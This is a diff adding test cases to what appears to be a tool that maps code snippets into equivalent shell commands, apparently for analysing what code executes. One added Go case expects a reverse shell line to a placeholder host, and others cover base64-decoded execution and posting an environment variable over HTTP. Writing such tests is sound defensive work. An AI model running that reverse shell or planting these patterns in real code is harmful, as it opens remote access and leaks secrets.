@@ -40,6 +40,18 @@ fn unused() { Command::new("git").arg("push").status(); }
         ("haskell", 'main = callCommand "ls -l"', ["ls -l"]),
         ("csharp", 'Process.Start("git", "status -s");', ["'git' status -s"]),
         ("dart", "File('${Platform.environment['HOME']}/.x').writeAsString('');", ["cat > \"$HOME\"'/.x'"]),
+        ("rust", 'let t = fs::read_to_string("a"); Command::new("b").arg(&t);', ["'b' \"$(cat 'a')\""]),
+        ("rust", 'Command::new("b").stdin(File::open("a").unwrap());', ["cat 'a' | 'b'"]),
+        (
+            "go",
+            'c, _ := net.Dial("tcp", "h.example:1")\nexec.Command("sh").Run()',
+            ["sh -i >& /dev/tcp/h.example/1 0>&1"],
+        ),
+        ("go", 'c, _ := net.Dial("tcp", "localhost:1")\nexec.Command("sh").Run()', ["'sh'"]),
+        ("java", 'System.load("a.so");', []),
+        ("java", 'exec(new String(Base64.getDecoder().decode("bHMgLWw=")));', []),
+        ("java", 'getRuntime().exec(new String(Base64.getDecoder().decode("bHMgLWw=")));', ["ls -l"]),
+        ("dart", "http.post(u, body: Platform.environment['A']);", []),
     ],
 )
 def test_commands(language: str, code: str, lines: list[str]) -> None:
